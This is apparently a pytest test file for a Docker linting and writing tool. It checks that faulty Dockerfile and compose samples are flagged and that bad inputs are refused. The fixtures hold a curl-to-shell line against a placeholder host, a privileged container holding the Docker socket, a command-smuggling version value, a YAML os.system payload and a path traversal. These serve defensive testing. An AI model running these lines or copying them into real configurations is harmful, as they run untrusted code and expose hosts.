"""docker_tool."""

import pytest

BAD = """FROM python
MAINTAINER me
ENV API_KEY=abc123
RUN apt-get install curl && \\
    sudo true
RUN curl http://x.example/a.sh | sh
FETCH x
CMD python app.py
"""
COMPOSE = """services:
  web:
    image: nginx
    privileged: true
    depends_on: [db]
    volumes: [/var/run/docker.sock:/var/run/docker.sock]
    environment: {DB_PASSWORD: hunter2}
  job:
    command: x
"""


def rules(use, action, content):
    return {
        (each["line"], each["rule"]) for each in use("docker_tool", action=action, content=content).data["findings"]
    }


@pytest.mark.parametrize("language", ["python", "node", "go", "static"])
def test_what_is_written_passes_its_own_rules(use, language):
    data = use("docker_tool", action="write", language=language, command=["a", "b c"], port=80).data
    assert data["findings"] == []
    assert "EXPOSE 80\n" in data["content"]
    assert language == "static" or 'CMD ["a", "b c"]' in data["content"]


def test_the_faults_of_a_dockerfile_are_found_by_line(use):
    assert rules(use, "lint_dockerfile", BAD) == {
        (1, "image without a fixed version"),
        (2, "MAINTAINER is deprecated"),
        (3, "secret in the image"),
        (4, "package lists stay"),
        (4, "apt-get without -y"),
        (4, "sudo"),
        (6, "runs what it downloads"),
        (7, "unknown instruction FETCH"),
        (8, "shell form"),
        (8, "runs as root"),
    }


def test_the_faults_of_a_compose_file_are_found(use):
    assert rules(use, "lint_compose", COMPOSE) == {
        (2, "web: image without a fixed version"),
        (2, "web: privileged"),
        (2, "web: depends on db, which is not there"),
        (2, "web: holds the engine's socket"),
        (2, "web: secret in the file"),
        (8, "job: neither image nor build"),
    }


@pytest.mark.parametrize(
    ("given", "refused"),
    [
        ({"action": "write"}, {"language"}),
        ({"action": "write", "language": "python"}, {"command"}),
        ({"action": "write", "language": "python", "version": "3; rm", "command": ["x"]}, {"version"}),
        ({"action": "lint_dockerfile"}, {"content"}),
        ({"action": "lint_compose", "content": "[unclosed"}, {"content"}),
        ({"action": "lint_compose", "content": "!!python/object/apply:os.system ['id']"}, {"content"}),
        ({"action": "write", "language": "static", "save_as": "../Dockerfile"}, {"path"}),
    ],
)
def test_what_is_wrong_is_named(use, given, refused):
    assert set(use.refused("docker_tool", **given)) == refused


def test_building_says_what_is_missing(use):
    assert use.refused("docker_tool", action="build") == "tool_unavailable"
